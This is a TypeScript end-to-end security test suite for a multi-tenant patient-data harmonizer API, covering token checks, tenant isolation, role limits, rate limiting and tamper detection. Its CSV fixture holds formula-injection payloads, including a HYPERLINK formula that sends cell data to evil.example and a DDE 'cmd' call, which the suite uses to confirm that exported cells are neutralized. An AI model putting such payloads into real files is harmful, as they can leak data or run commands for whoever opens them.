import { randomBytes } from 'node:crypto';
import fs from 'node:fs/promises';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import jwt from 'jsonwebtoken';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createApiClient, type ApiClient, type ApiResponse } from './helpers/api-client.js';
import type { ErrorBody, Manifest, StatusBody, SubmittedJob } from './helpers/job-types.js';
import { printOutputOnFailure } from './helpers/print-output.js';
import { dumpRedisPrefix } from './helpers/redis-keys.js';
import { startStack, type Stack } from './helpers/start-stack.js';

const JWT = { secret: `e2e-${randomBytes(24).toString('hex')}`, issuer: 'https://issuer.e2e.example', audience: 'harmonizer-e2e' };

/** An HS256 token as an identity provider would issue it: tenant and roles claims, 5 minutes. */
const token = (tenant: string, roles: string[], sub: string) =>
  jwt.sign({ tenant, roles, sub }, JWT.secret, { algorithm: 'HS256', issuer: JWT.issuer, audience: JWT.audience, expiresIn: 300 });
const as = (credential: string) => ({ authorization: `Bearer ${credential}` });
/** The token with one character of its signature changed. */
const tampered = (jwtText: string) => {
  const at = jwtText.length - 10;
  return `${jwtText.slice(0, at)}${jwtText[at] === 'A' ? 'B' : 'A'}${jwtText.slice(at + 1)}`;
};

const A_SUBMITTER = as(token('acme', ['submitter'], 'alice'));
const A_VIEWER = as(token('acme', ['viewer'], 'victor'));
const B_ADMIN = as(token('globex', ['admin'], 'bob'));
const B_VIEWER = as(token('globex', ['viewer'], 'betty'));

/** Cells a spreadsheet would run as formulas, in the free-text fields of a patients file. */
const FORMULA_CSV = [
  'id,first_name,last_name,birth_date,city,email',
  'MRN-1,"=HYPERLINK(""http://evil.example/?d=""&A1,""open"")",Smith,1980-01-02,Boston,a@example.com',
  'MRN-2,Ann,+SUM(1+1),1975-03-04,@cmd,b@example.com',
  `MRN-3,"-2+3+cmd|' /C calc'!A0",Lee,1990-05-06,Springfield,c@example.com`,
  'MRN-4,Bo,Kim,1985-07-08,"=1+2",d@example.com',
  '',
].join('\n');

/** What a refused submission of the second tenant carried: none of it may show up anywhere. */
const REFUSED_MARKER = `zz-refused-${randomBytes(6).toString('hex')}`;

const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

describe('security, end to end (AUTH_MODE=required, real api and worker)', () => {
  let stack: Stack;
  let api: ApiClient;
  let jobId: string;

  const get = <T>(url: string, headers: Record<string, string> = {}) => api.request<T>('GET', url, { headers });
  const submit = (content: string, headers: Record<string, string>, fields: { dataset?: string; fileName?: string } = {}) => {
    const form = new FormData();
    if (fields.dataset !== undefined) form.append('dataset', fields.dataset);
    form.append('file', new Blob([content], { type: 'text/csv' }), fields.fileName ?? 'patients.csv');
    return api.request<SubmittedJob & ErrorBody>('POST', '/api/v1/jobs', { body: form, headers });
  };

  /** Polls the way a well-behaved client does: waits Retry-After between polls. */
  async function waitForFinish(id: string, headers: Record<string, string>): Promise<ApiResponse<Manifest>> {
    const deadline = Date.now() + 90_000;
    for (;;) {
      const res = await get<Manifest & StatusBody>(`/api/v1/jobs/${id}/status`, headers);
      if (res.status === 200) return res;
      expect(res.status).toBe(202);
      if (Date.now() > deadline) throw new Error(`job ${id} still ${res.body.status}`);
      await sleep(Number(res.headers.get('retry-after')) * 1000);
    }
  }

  const expectError = (res: ApiResponse<unknown>, status: number, code: string) => {
    expect(res.status, res.text).toBe(status);
    expect((res.body as ErrorBody).error.code).toBe(code);
  };

  beforeAll(async () => {
    const key = randomBytes(32).toString('base64');
    stack = await startStack({
      env: {
        AUTH_MODE: 'required',
        JWT_SECRET: JWT.secret,
        JWT_ISSUER: JWT.issuer,
        JWT_AUDIENCE: JWT.audience,
        STATUS_POLL_LIMIT: 'on',
        ENCRYPTION_KEYS: `e2e-sec:${key}`,
      },
    });
    api = createApiClient(stack.baseUrl);
  });
  afterAll(async () => stack?.stop());
  beforeEach((context) => printOutputOnFailure(context, () => stack?.output()));

  it('refuses every tenant route without a token (401, WWW-Authenticate) and serves the public probes', async () => {
    for (const url of ['/api/v1/jobs', '/api/v1/mappings', '/api/v1/datasets']) {
      const res = await get(url);
      expectError(res, 401, 'unauthorized');
      expect(res.headers.get('www-authenticate')).toMatch(/^Bearer/);
    }
    expectError(await submit(FORMULA_CSV, {}), 401, 'unauthorized');
    expectError(await get('/api/v1/jobs', as(tampered(token('acme', ['admin'], 'mallory')))), 401, 'unauthorized');
    expect((await get('/health')).status).toBe(200);
  });

  it("runs tenant A's job, polled at the pace of Retry-After", async () => {
    const submitted = await submit(FORMULA_CSV, A_SUBMITTER, { dataset: 'patients' });
    expect(submitted.status).toBe(202);
    jobId = submitted.body.id;
    const manifest = (await waitForFinish(jobId, A_SUBMITTER)).body;
    expect(manifest.status).toBe('completed');
    expect(manifest.counts.rows_in).toBe(4);
  });

  it('neutralizes formula cells in the harmonized CSV: each starts with a quote', async () => {
    const csv = await get<undefined>(`/api/v1/jobs/${jobId}/result?format=csv`, A_SUBMITTER);
    expect(csv.status).toBe(200);
    const rows = parse(csv.text, { columns: true, bom: true }) as Record<string, string>[];
    const cells = rows.flatMap((row) => Object.values(row)).filter((cell) => cell !== '');
    const signedNumber = /^[+-]?\d+(\.\d+)?$/;
    // No cell a spreadsheet would evaluate...
    for (const cell of cells) {
      if (signedNumber.test(cell)) continue;
      expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    // ...and the formulas sent are there, guarded by a leading quote.
    const guarded = cells.filter((cell) => /^'[=+\-@]/.test(cell));
    expect(guarded.length).toBeGreaterThanOrEqual(4);
    expect(guarded.some((cell) => cell.startsWith("'=HYPERLINK(") || cell.startsWith("'=Hyperlink("))).toBe(true);
  });

  it('answers 404 job_not_found to another tenant on every job route, even to its admin', async () => {
    const base = `/api/v1/jobs/${jobId}`;
    const reads = [base, `${base}/status`, `${base}/result?format=csv`, `${base}/rejects`, `${base}/report`, `${base}/logs`, `${base}/fhir/Patient`];
    for (const url of reads) expectError(await get(url, B_ADMIN), 404, 'job_not_found');
    expectError(await api.request('DELETE', base, { headers: B_ADMIN }), 404, 'job_not_found');
    expectError(await api.request('POST', `${base}/retry`, { headers: B_ADMIN }), 404, 'job_not_found');
    const list = await get<{ items: { id: string }[] }>('/api/v1/jobs', B_ADMIN);
    expect(list.status).toBe(200);
    expect(list.body.items.map((j) => j.id)).not.toContain(jobId);
    // The job is untouched by all that: still completed, files still there for its tenant.
    expect((await get<StatusBody>(`${base}/status`, A_VIEWER)).body.status).toBe('completed');
  });

  it('lets a viewer read the job but not download records (403)', async () => {
    const base = `/api/v1/jobs/${jobId}`;
    expect((await get(base, A_VIEWER)).status).toBe(200);
    expect((await get(`${base}/report`, A_VIEWER)).status).toBe(200);
    for (const url of [`${base}/result?format=csv`, `${base}/result?format=ndjson`, `${base}/rejects`, `${base}/fhir/Patient`]) {
      const res = await get(url, A_VIEWER);
      expectError(res, 403, 'forbidden');
      expect(res.text).not.toContain('Smith');
    }
    expectError(await submit(FORMULA_CSV, A_VIEWER), 403, 'forbidden');
  });

  it('answers 429 polling_too_fast to a poll sooner than Retry-After while a job is active', async () => {
    const rows = Array.from({ length: 60_000 }, (_, i) => `P-${i},Ann${i % 97},Lee,1980-01-${String((i % 28) + 1).padStart(2, '0')},Boston,x${i}@example.com`);
    const submitted = await submit(`id,first_name,last_name,birth_date,city,email\n${rows.join('\n')}\n`, A_SUBMITTER, { dataset: 'patients' });
    expect(submitted.status).toBe(202);
    const id = submitted.body.id;
    const first = await get<StatusBody>(`/api/v1/jobs/${id}/status`, A_SUBMITTER);
    expect(first.status).toBe(202);
    const tooSoon = await get<ErrorBody>(`/api/v1/jobs/${id}/status`, A_SUBMITTER);
    expectError(tooSoon, 429, 'polling_too_fast');
    expect(Number(tooSoon.headers.get('retry-after'))).toBeGreaterThanOrEqual(1);
    // Another principal of the tenant has a pace of its own.
    expect([200, 202]).toContain((await get(`/api/v1/jobs/${id}/status`, A_VIEWER)).status);
    await sleep(Number(tooSoon.headers.get('retry-after')) * 1000);
    expect([200, 202]).toContain((await get(`/api/v1/jobs/${id}/status`, A_SUBMITTER)).status);
    await api.request('DELETE', `/api/v1/jobs/${id}`, { headers: A_SUBMITTER }); // spare the worker
  });

  it('refuses a tampered encrypted result with file_tampered to its tenant, and 404 to others', async () => {
    const results = path.join(stack.dataDir, 'files', 'results', jobId);
    const name = (await fs.readdir(results)).find((n) => n.endsWith('harmonized.ndjson'));
    expect(name).toBeDefined();
    const file = path.join(results, name as string);
    const bytes = await fs.readFile(file);
    const middle = Math.floor(bytes.length / 2);
    bytes[middle] = (bytes[middle] ?? 0) ^ 0x20;
    await fs.writeFile(file, bytes);

    const res = await get<ErrorBody>(`/api/v1/jobs/${jobId}/result?format=ndjson`, A_SUBMITTER);
    expectError(res, 500, 'file_tampered');
    expect(res.text).not.toContain('Smith');
    expectError(await get(`/api/v1/jobs/${jobId}/result?format=ndjson`, B_ADMIN), 404, 'job_not_found');
  });

  it('keeps nothing a refused request of the other tenant sent', async () => {
    const content = `id,first_name,last_name\n${REFUSED_MARKER},Eve,${REFUSED_MARKER}\n`;
    const fileName = `${REFUSED_MARKER}.csv`;
    expectError(await submit(content, B_VIEWER, { fileName }), 403, 'forbidden');
    expectError(await submit(content, { ...B_ADMIN, 'idempotency-key': REFUSED_MARKER }, { dataset: 'no-such-dataset', fileName }), 400, 'invalid_dataset');
    expectError(await submit(content, as(tampered(token('globex', ['admin'], 'bob'))), { fileName }), 401, 'unauthorized');

    // Not in the tenant's jobs...
    const list = await get<{ items: unknown[] }>('/api/v1/jobs', B_ADMIN);
    expect(list.body.items).toEqual([]);
    // ...nor in stored files (every upload is one of tenant A's accepted jobs), the database files,
    // Redis or the service logs.
    const accepted = (await get<{ items: { id: string }[] }>('/api/v1/jobs', A_VIEWER)).body.items.map((j) => j.id);
    const uploads = await fs.readdir(path.join(stack.dataDir, 'files', 'uploads'));
    expect(uploads.filter((dir) => !accepted.includes(dir))).toEqual([]);
    const temp = await fs.readdir(path.join(stack.dataDir, 'files', '.tmp')).catch(() => []);
    expect(temp.filter((name) => name.startsWith('uploads'))).toEqual([]); // results-* are the worker's
    for (const entry of await fs.readdir(stack.dataDir)) {
      if (!entry.startsWith('harmonizer.sqlite')) continue;
      const db = await fs.readFile(path.join(stack.dataDir, entry));
      expect(db.includes(REFUSED_MARKER), entry).toBe(false);
    }
    expect(await dumpRedisPrefix(stack.queuePrefix)).not.toContain(REFUSED_MARKER);
    expect(stack.output()).not.toContain(REFUSED_MARKER);
    // The refused request left no Idempotency-Key behind: the same key makes a new job.
    const retried = await submit('id\n1\n', { ...B_ADMIN, 'idempotency-key': REFUSED_MARKER }, { dataset: 'patients' });
    expect(retried.status).toBe(202);
  });
});
